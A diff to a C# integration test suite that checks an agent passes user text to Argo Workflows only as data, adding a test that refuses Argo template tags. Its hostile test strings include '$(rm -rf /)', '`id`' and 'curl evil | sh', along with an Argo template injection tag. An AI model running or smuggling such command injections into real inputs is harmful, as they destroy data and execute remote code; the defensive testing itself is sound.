@@ -13,11 +13,12 @@ namespace Agent.IntegrationTests.Abuse;
 /// Shell metacharacters, env-var syntax, newlines, quotes and Argo template syntax in the pipeline FQN, name, run id and
 /// config reach Argo only as data: the command is a fixed exec array (no shell), the config is the <c>config</c> env
 /// value byte for byte, the workflow name and labels are valid and derived (hashed or sanitized), and user text lands
-/// only in the env values and annotations that carry it. Argo does expand <c>{{…}}</c> inside env values; see the report.
+/// only in the env values and annotations that carry it. Argo template tags (<c>{{…}}</c>), which Argo would replace
+/// inside those env values and cannot escape, are refused with 400 naming the field, before anything reaches Argo.
 /// </summary>
 public sealed partial class InjectionTests
 {
-    private const string Hostile = "$(rm -rf /) `id` ${HOME} $HOME; echo pwned && curl evil | sh\n'\"\\ {{workflow.name}} {{=sprig.trim('x')}} %s \u00e9";
+    private const string Hostile = "$(rm -rf /) `id` ${HOME} $HOME; echo pwned && curl evil | sh\n'\"\\ {workflow.name} %{x} %s \u00e9";
 
     private static readonly string[] ContainerTemplates = ["ingestion", "exit-handler"];
 
@@ -27,7 +28,7 @@ public sealed partial class InjectionTests
         await using var rig = await AgentRig.StartAsync(LinkSignals.NewAgentId("injection"));
         var fqn = "svc.\"db;" + Hostile + "\".pipe " + Hostile;
         var name = "pipe " + Hostile;
-        var runId = "run $(rm -rf /) `id` ${HOME}; echo pwned '\" {{workflow.name}}";
+        var runId = "run $(rm -rf /) `id` ${HOME}; echo pwned '\" {workflow.name}";
         var config = "source:\r\n  type: mysql\n  query: \"" + Hostile + "\"\n\tpassword: secret:x\n# " + Hostile + "\n";
 
         var answer = ReliableMessages.Result(await rig.ControlPlane.SendRequestAsync(
@@ -65,7 +66,7 @@ public sealed partial class InjectionTests
         Assert.Equal(runId, (string?)metadata["annotations"]![WorkflowLabels.RunIdAnnotation]);
 
         // User text appears only where it is data: three env values of the two containers, and the annotations.
-        var userTextAt = StringLeaves(workflow, "$").Where(leaf => leaf.Value.Contains("{{workflow.name}}", StringComparison.Ordinal)).Select(leaf => leaf.Path).ToList();
+        var userTextAt = StringLeaves(workflow, "$").Where(leaf => leaf.Value.Contains("{workflow.name}", StringComparison.Ordinal)).Select(leaf => leaf.Path).ToList();
         Assert.All(userTextAt, path => Assert.Matches(@"^\$\.(spec\.templates\[[01]\]\.container\.env\[[0-2]\]\.value|metadata\.annotations\.[^.]+)$", path));
         Assert.Equal(3 * ContainerTemplates.Length, userTextAt.Count(path => path.StartsWith("$.spec", StringComparison.Ordinal)));
     }
@@ -73,7 +74,7 @@ public sealed partial class InjectionTests
     [Theory]
     [InlineData("run\n$(id)")]
     [InlineData("run\u0000`id`")]
-    [InlineData("run\r\n{{workflow.name}}")]
+    [InlineData("run\r\n{workflow.name}")]
     public async Task PipelineRun_RunIdWithControlCharacters_Answered400AndCreatesNoWorkflow(string runId)
     {
         await using var rig = await AgentRig.StartAsync(LinkSignals.NewAgentId("injection-run-id"));
@@ -83,6 +84,27 @@ public sealed partial class InjectionTests
 
         Assert.Equal(400, answer.Code);
         Assert.Contains("runId", answer.Reason, StringComparison.Ordinal);
+        Assert.Empty(rig.Emulator.ListWorkflows());
+    }
+
+    [Theory]
+    [InlineData("pipeline.fullyQualifiedName")]
+    [InlineData("runId")]
+    [InlineData("config")]
+    public async Task PipelineRun_ArgoTemplateTagInUserText_Answered400NamingTheFieldAndCreatesNoWorkflow(string field)
+    {
+        await using var rig = await AgentRig.StartAsync(LinkSignals.NewAgentId("injection-tag"));
+        const string Tag = "{{=sprig.trim(workflow.name)}}";
+        var payload = RequestPayloads.PipelineRun(
+            field == "pipeline.fullyQualifiedName" ? "svc." + Tag : AgentRig.PipelineFqn,
+            config: field == "config" ? JsonSerializer.SerializeToElement("source:\n  query: " + Tag) : null,
+            runId: field == "runId" ? "run-" + Tag : null);
+
+        var answer = ReliableMessages.Result(await rig.ControlPlane.SendRequestAsync(
+            rig.Agent.AgentId, MessageTypes.PipelineRun, payload, rig.Cancellation));
+
+        Assert.Equal(400, answer.Code);
+        Assert.StartsWith($"payload field '{field}' contains '{{{{'", answer.Reason, StringComparison.Ordinal);
         Assert.Empty(rig.Emulator.ListWorkflows());
     }
 
